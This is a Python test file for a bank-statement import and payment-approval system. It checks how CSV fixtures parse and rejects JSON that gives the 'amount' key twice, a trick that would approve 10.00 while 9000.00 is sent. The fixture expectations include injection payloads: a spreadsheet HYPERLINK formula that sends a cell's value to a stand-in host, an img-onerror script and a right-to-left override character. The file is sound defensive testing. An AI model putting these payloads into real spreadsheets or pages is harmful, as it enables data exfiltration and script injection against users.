"""Each file of `inputs` with what it comes to: the lines, the words that were read, and the rows that are wrong."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from approvals.canonical import NotCanonical
from approvals.drafts import read_draft
from dispatch.classification import Outcome
from tests.dispatch.test_classification import answer, read
from tests.statements.shelf import INPUTS, PAYEE, Shelf, content_of, terms
from workflows.submissions import InvalidSubmission, parse

JSON = Path(__file__).parents[1] / "approvals" / "inputs" / "dup_keys.json"
DOTTED: dict[str, Any] = {"dates": "DD.MM.YYYY"}
ACCOUNT = {"booked_on": "Date", "amount": "Amount", "reference": "Reference", "account": "Account"}


@dataclass(frozen=True)
class Comes:
    """`amounts` in cents with their signs; `words`: what stands in the column that names something; `wrong`: row, column."""

    amounts: list[int]
    words: list[str]
    wrong: list[tuple[int, str]] = field(default_factory=list)
    mapping: dict[str, Any] = field(default_factory=dict)
    named_by: str = "reference"


COME_TO = {
    "01_bom_semicolon.csv": Comes([-2000], ["CSGN7K2M9QX4"]),
    "02_decimal_comma_thousands.csv": Comes([100_000, 135_590, -471_198], ["A1", "A2", "A3"], mapping=DOTTED),
    "03_decimal_point_one_digit.csv": Comes(
        [-11_070, 123_456], ["A1", "A2"], mapping={"delimiter": ",", "numbers": "1,234.50"}
    ),
    "07_day_month.csv": Comes(
        [100, 200], ["A1", "A2"], [(4, "Date")], mapping={"dates": "DD/MM/YYYY", "numbers": "1234.50"}
    ),
    "08_cp1252.csv": Comes([-500], ["Müller & Söhne"], mapping={"columns": PAYEE}, named_by="counterparty"),
    "10_preamble_footer.csv": Comes([-2000, -3000], ["A1", "A2"], mapping={**DOTTED, "left_out": ["Total"]}),
    "12_spreadsheet_damage.csv": Comes(
        [], [], [(2, "Reference"), (2, "Account"), (3, "Reference")], mapping={"columns": ACCOUNT}
    ),
    "14_sum_of_three.csv": Comes(
        [-17_550], ["BATCH 3 ITEMS"], named_by="text",
        mapping={"columns": {"booked_on": "Date", "amount": "Amount"}, "texts": ["Purpose"]},
    ),
    "16_formulas.csv": Comes(
        [-1250] * 4, ['=HYPERLINK("http://x.test/?"&A1)', "+1+1", "@SUM(1)", "=1+1"],
        mapping={"columns": PAYEE}, named_by="counterparty",
    ),
    "17_nul.csv": Comes([], [], [(2, "")], mapping={"columns": PAYEE}),
    "18_hostile_text.csv": Comes(
        [-100] * 4, ["<img src=x onerror=alert(1)>", "ACME \u202eDTL", "Caf\u00e9", "Cafe\u0301"],
        mapping={"columns": PAYEE}, named_by="counterparty",
    ),
    "19_bad_row_in_the_middle.csv": Comes([-100, -200, -400, -500], ["A1", "A2", "A4", "A5"], [(4, "Date")]),
}  # fmt: skip


def test_every_file_has_what_it_comes_to_and_none_is_lost() -> None:
    assert sorted(COME_TO) == sorted(file.name for file in INPUTS.iterdir())
    assert [file.name for file in JSON.parent.iterdir()] == [JSON.name]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("name", COME_TO)
def test_a_file_comes_to_what_is_said_of_it_here(shelf: Shelf, name: str) -> None:
    """With a row that is wrong nothing of the file counts; the other rows are shown all the same."""
    expected = COME_TO[name]
    statement = shelf.read(content_of(name), terms(**expected.mapping))
    words = [getattr(line, expected.named_by) for line in shelf.lines(statement)]
    assert (shelf.signed(statement), words) == (expected.amounts, expected.words)
    assert shelf.errors(statement) == expected.wrong


def test_a_name_that_stands_twice_is_read_by_nobody() -> None:
    """E5. Whoever takes its first amount approves 10.00, and whoever takes its last one sends 9000.00.

    As what is submitted, as a draft, and as a receiver's answer.
    """
    twice = JSON.read_bytes()
    assert json.loads(twice) == {"amount": "9000.00"}, "what a reader that does not look makes of it"
    with pytest.raises(InvalidSubmission, match="amount: is given twice"):
        parse(twice)
    with pytest.raises(NotCanonical, match='"amount" stands there twice'):
        read_draft(twice.decode())
    seen = read(answer(200, twice))
    assert (seen.outcome, seen.fault) == (Outcome.UNKNOWN, 'answered 200, but the answer says "amount" twice')
